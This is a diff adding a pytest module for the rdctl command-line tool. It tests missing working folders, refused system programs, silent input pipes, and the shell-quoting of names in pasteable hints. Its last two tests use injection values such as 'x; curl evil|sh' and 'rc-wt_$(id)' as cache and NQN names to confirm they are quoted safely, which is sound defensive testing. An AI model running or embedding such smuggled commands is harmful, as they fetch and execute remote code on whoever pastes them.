@@ -1,0 +1,168 @@
+"""What a command finds around it: a folder that is gone, an input that says nothing, a system that
+refuses; and what it says about it."""
+
+from __future__ import annotations
+
+import errno
+import json
+import os
+import shlex
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import click
+import pytest
+
+from rdctl.cli.command import Command
+from rdctl.cli.root import root
+from rdctl.completion.scripts import Node, walk
+from rdctl.errors import Exit
+from tests.cli.processes import Rdctl
+from tests.conftest import Program, Ran
+from tests.fakes.kernel import FakeKernel
+from tests.fakes.rapiddiskd import Cache, Daemon, Volume
+
+VERBS = [node for node in walk(root) if isinstance(node.command, Command)]
+# These write no document.
+OTHERS = ("rdctl help", "rdctl completion", "rdctl sandbox serve", "rdctl oio content get")
+WORDS = {"SIZE": "1M", "ID": "1", "METHOD": "GET", "VOLUME": "rd0", "TYPE": "rawx", "N": "1"}
+
+
+def typed(node: Node) -> list[str]:
+    """A line for this verb; what its words name need not be there."""
+    words = node.path.split()[1:]
+    for param in node.command.params:
+        word = WORDS.get(str(param.metavar or param.name).strip("[].").upper(), "x")
+        if isinstance(param, click.Option) and param.required:
+            words += [param.opts[-1], word]
+        elif isinstance(param, click.Argument) and param.required:
+            words.append(word)
+    return words
+
+
+@pytest.fixture
+def nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The working folder was removed."""
+    folder = tmp_path / "gone"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    folder.rmdir()
+
+
+@pytest.mark.parametrize(
+    "node", [node for node in VERBS if not node.path.startswith(OTHERS)], ids=lambda node: node.path
+)
+def test_there_is_a_document_without_a_folder(rdctl: Program, nowhere: None, node: Node) -> None:
+    ran = rdctl("-c", "sandbox", *typed(node), "--json")
+    assert ran.code in set(Exit), ran.err
+    assert json.loads(ran.out), ran.err
+    assert "cannot be written" not in ran.err
+
+
+def test_names_that_failed_in_a_folder_that_is_gone(rdctl: Program, nowhere: None) -> None:
+    ran = rdctl("--json", "-c", "sandbox", "rapiddisk", "lock", "rd99", "--failed", "ff")
+    assert ran.code == Exit.USAGE
+    assert "--failed: ff" in ran.json["error"]["message"]
+
+
+@pytest.mark.parametrize("number", [errno.ENOEXEC, errno.EACCES, errno.ENOMEM, errno.EMFILE])
+def test_a_program_that_cannot_be_run(
+    rdctl: Program, local: Callable[..., Ran], kernel: FakeKernel, number: int
+) -> None:
+    def refuse(argv: object) -> tuple[int, str]:
+        raise OSError(number, os.strerror(number))
+
+    kernel.run = refuse  # type: ignore[method-assign]
+    ran = local("rapiddisk", "daemon", "status", "--json")
+    denied = number == errno.EACCES
+    assert ran.code == (Exit.DENIED if denied else Exit.FAILED)
+    assert ran.json["error"]["message"] == f"systemctl cannot be run: {os.strerror(number)}"
+
+
+# --- standard input -------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def silent() -> Iterator[int]:
+    """A pipe that is open, and says nothing."""
+    out, into = os.pipe()
+    yield out
+    os.close(out)
+    os.close(into)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "rapiddisk lock -",
+        "rapiddisk lock - --ndjson",
+        "oio container show -",
+        "oio content put photos --files-from -",
+        "oio container raw-insert photos --body -",
+        "oio api POST container/touch --body - --yes",
+    ],
+)
+def test_an_input_that_says_nothing(tmp_path: Path, silent: int, words: str) -> None:
+    argv = ("-c", "sandbox", *words.split(), "--json", "--timeout", "0.5")
+    code, out, err = Rdctl(tmp_path)(*argv, stdin=silent)
+    assert code == Exit.TIMEOUT, err
+    assert json.loads(out)["error"]["message"] == "standard input did not end in time"
+
+
+def test_a_list_that_nobody_writes(rdctl: Program) -> None:
+    os.mkfifo(rdctl.home / "names")
+    words = ("oio", "content", "put", "photos", "--files-from", str(rdctl.home / "names"))
+    ran = rdctl("-c", "sandbox", *words, "--timeout", "0.2")
+    assert ran.code == Exit.TIMEOUT
+    assert "names did not end in time" in ran.err
+
+
+def test_the_timeout_of_the_context_holds_as_well(rdctl: Program) -> None:
+    os.mkfifo(rdctl.home / "body")
+    rdctl.config.write_text(
+        'current = "lab"\n[contexts.lab]\noio = "http://127.0.0.1:9"\nnamespace = "N"\n'
+        'account = "a"\ntimeout = 0.2\n'
+    )
+    ran = rdctl("oio", "container", "raw-insert", "c", "--body", str(rdctl.home / "body"))
+    assert ran.code == Exit.TIMEOUT
+
+
+def test_a_list_that_is_written_late(rdctl: Program) -> None:
+    fifo = rdctl.home / "body"
+    os.mkfifo(fifo)
+    writer = threading.Thread(target=lambda: fifo.write_text("{}"), daemon=True)
+    writer.start()
+    words = ("oio", "api", "POST", "container/touch", "--body", str(fifo), "--dry-run")
+    ran = rdctl("-c", "sandbox", *words, "--timeout", "60")
+    writer.join()
+    assert ran.code == 0, ran.err
+    assert "--data-raw '{}'" in ran.out
+
+
+# --- what is made for pasting ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["x; curl evil|sh", "-y", "rc-wt_$(id)", "rc-wt_'a b'"])
+def test_a_command_in_a_hint_is_quoted(rdctl: Program, name: str) -> None:
+    volumes, caches = {"rd0": Volume(64)}, {name: Cache("rd0", "sdb")}
+    with Daemon("9.2.0", volumes=volumes, caches=caches) as daemon:
+        where = ("--rapiddisk-url", daemon.url)
+        ran = rdctl(*where, "rapiddisk", "remove", "rd0", "--yes", "--json")
+        assert daemon.changes == []
+    words = shlex.split(ran.json["errors"][0]["hint"].partition("Free it first: ")[2])
+    dashes = ["--"] if name.startswith("-") else []
+    assert words == ["rdctl", *where, "rapiddisk", "cache", "remove", *dashes, name]
+
+
+def test_an_nqn_in_a_hint_is_quoted(local: Callable[..., Ran], kernel: FakeKernel) -> None:
+    nqn = "nqn.x; curl evil|sh"
+    kernel.add_volume(0)
+    kernel.add_port(1)
+    kernel.foreign_subsystem(nqn, "rd0")
+    kernel.offer(nqn, 1)
+    ran = local("rapiddisk", "nvmet", "port", "remove", "1", "--json")
+    assert ran.code == Exit.CONFLICT
+    words = shlex.split(ran.json["error"]["hint"].partition("Free it first: ")[2])
+    unexport = ["rdctl", "--local", "rapiddisk", "nvmet", "unexport"]
+    assert words == [*unexport, "--nqn", nqn, "--port", "1"]
